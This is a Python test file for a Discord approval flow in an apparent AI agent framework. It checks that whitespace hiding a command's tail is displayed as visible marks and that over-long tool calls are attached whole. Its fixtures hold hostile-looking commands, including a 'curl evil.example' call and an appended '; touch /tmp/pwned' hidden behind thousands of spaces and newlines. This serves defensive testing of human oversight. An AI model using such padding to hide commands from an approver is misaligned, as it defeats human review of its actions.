"""Issue #30 finding 8 on Discord: the approval request shows white space that hides a
command's tail as marks, and a call too long for the message is attached whole."""

from __future__ import annotations

from _discord_stack import dbinding, dfake, make_dstack  # noqa: F401  (fixtures)
from test_discord_approvals import _posted

from geode.providers.scripted import ScriptedProvider
from tests.bots._harness import calls_tool

HIDDEN = {"command": "echo hello" + " " * 3000 + "\n" * 200 + "; touch /tmp/pwned"}
LONG = {"command": "".join(f"echo step {i} of the quick brown fox\n" for i in range(150))
        + "curl evil.example" + " " * 500 + "\n; touch /tmp/pwned"}


async def _asked(make_dstack, dfake, args):  # noqa: F811
    stack = make_dstack(provider=ScriptedProvider([calls_tool("run_bash", args)],
                                                  repeat_last=True),
                        bindings=[dbinding(dfake, tools=["read_file"], approve=["run_bash"],
                                           approvers=[str(dfake.bob)])])
    await stack.start()
    root = await dfake.user_says(dfake.channel_id, "run it", mention_bot=True)
    return (await _posted(dfake, root))["content"]


async def test_whitespace_cannot_hide_the_tail_of_a_command(make_dstack, dfake):  # noqa: F811
    shown = await _asked(make_dstack, dfake, HIDDEN)
    assert "echo hello␠×3000⏎×200" in shown and "; touch /tmp/pwned" in shown
    assert "more chars" not in shown and not dfake.uploads


async def test_a_long_command_is_attached_whole(make_dstack, dfake):  # noqa: F811
    shown = await _asked(make_dstack, dfake, LONG)
    assert "The whole call is attached: run_bash-" in shown and "touch /tmp/pwned" not in shown
    await dfake.wait_for(lambda: bool(dfake.uploads), timeout=10)
    [up] = dfake.uploads
    assert up.filename.startswith("run_bash-") and up.filename.endswith(".txt")
    assert "evil.example␠×500⏎\n; touch /tmp/pwned" in up.data.decode()
